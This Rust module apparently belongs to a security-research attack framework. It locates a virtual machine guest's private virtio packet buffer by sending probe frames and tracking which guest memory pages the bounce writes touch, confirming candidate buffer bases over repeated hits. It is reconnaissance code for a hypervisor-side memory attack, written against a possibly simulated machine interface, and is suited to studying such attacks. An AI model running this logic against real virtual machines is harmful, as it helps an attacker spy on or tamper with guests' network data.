// SPDX-License-Identifier: Apache-2.0

//! Finding the private packet buffer from bounce write sequences.
//!
//! Every write sequence that touches a 32 KiB aligned page opens a candidate
//! "a packet buffer starts here and this frame went to fragment 0". Each later
//! sequence must then write the pages that the next fragment of that buffer
//! would cover. A candidate dies on the first miss and is accepted after a
//! fixed number of consecutive hits.

use std::collections::BTreeSet;

use serde::{Deserialize, Serialize};

use super::tracking::{expected_gfns, track_bounce, WriteSequence};
use super::AttackError;
use crate::layout::PACKET_BUFFER_FRAMES;
use crate::slat::Gfn;
use crate::virtio::buffer::fragment_count;
use crate::virtio::packet::Packet;
use crate::world::Machine;

pub const DEFAULT_CONFIRMATIONS: u32 = 10;
pub const DEFAULT_PACKET_BUDGET: u32 = 200;

#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct BufferLocation {
    pub base_gfn: Gfn,
    pub fragment_size: u32,
    pub fragment_count: u32,
    /// Fragment the next received frame will be stored in.
    pub next_fragment: u32,
}

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
struct Candidate {
    base: Gfn,
    fragment_size: u32,
    next: u32,
    confirmations: u32,
}

impl Candidate {
    /// Checks `seq` against the hypothesis and advances it.
    fn confirm(&mut self, seq: &WriteSequence, written: &BTreeSet<Gfn>) -> bool {
        let count = fragment_count(self.fragment_size);
        for &len in &seq.chunks {
            if self.next >= count {
                return false;
            }
            match expected_gfns(self.base, self.next, len, self.fragment_size) {
                Ok(exp) if exp.is_subset(written) => self.next += 1,
                _ => return false,
            }
        }
        true
    }
}

/// Candidate bookkeeping, independent of how sequences are obtained.
#[derive(Clone, Debug)]
pub struct BufferSearch {
    confirmations: u32,
    candidates: Vec<Candidate>,
}

impl BufferSearch {
    pub fn new(confirmations: u32) -> Self {
        Self {
            confirmations: confirmations.max(1),
            candidates: Vec::new(),
        }
    }

    pub fn live_candidates(&self) -> Vec<Gfn> {
        self.candidates.iter().map(|c| c.base).collect()
    }

    /// Feeds one sequence; returns the buffer once a candidate is confirmed.
    pub fn observe(&mut self, seq: &WriteSequence) -> Option<BufferLocation> {
        let written = seq.distinct();
        self.candidates.retain_mut(|c| {
            let ok = c.confirm(seq, &written);
            if ok {
                c.confirmations += 1;
            }
            ok
        });
        if let Some(c) = self
            .candidates
            .iter()
            .find(|c| c.confirmations >= self.required(c.fragment_size))
        {
            return Some(BufferLocation {
                base_gfn: c.base,
                fragment_size: c.fragment_size,
                fragment_count: fragment_count(c.fragment_size),
                next_fragment: c.next,
            });
        }
        for &g in &written {
            if g.0 % PACKET_BUFFER_FRAMES != 0 || self.candidates.iter().any(|c| c.base == g) {
                continue;
            }
            let mut c = Candidate {
                base: g,
                fragment_size: seq.descriptor_len,
                next: 0,
                confirmations: 0,
            };
            if seq.descriptor_len > 0 && c.confirm(seq, &written) {
                self.candidates.push(c);
            }
        }
        None
    }

    /// Confirmations needed; a buffer with few fragments cannot supply the
    /// default count before it fills up.
    fn required(&self, fragment_size: u32) -> u32 {
        self.confirmations.min(fragment_count(fragment_size).saturating_sub(1).max(1))
    }
}

#[derive(Clone, Debug)]
pub struct Identification {
    pub location: BufferLocation,
    pub packets_sent: u32,
    pub sequences: Vec<WriteSequence>,
}

/// Sends probe frames from `next_probe` until a buffer candidate is
/// confirmed.
pub fn identify_packet_buffer<M: Machine>(
    m: &mut M,
    confirmations: u32,
    budget: u32,
    next_probe: &mut dyn FnMut() -> Packet,
) -> Result<Identification, AttackError> {
    let mut search = BufferSearch::new(confirmations);
    let mut sequences = Vec::new();
    for sent in 1..=budget {
        let seq = track_bounce(m, &next_probe())?;
        let found = search.observe(&seq);
        sequences.push(seq);
        if let Some(location) = found {
            return Ok(Identification {
                location,
                packets_sent: sent,
                sequences,
            });
        }
    }
    Err(AttackError::IdentifyFailure { packets: budget })
}
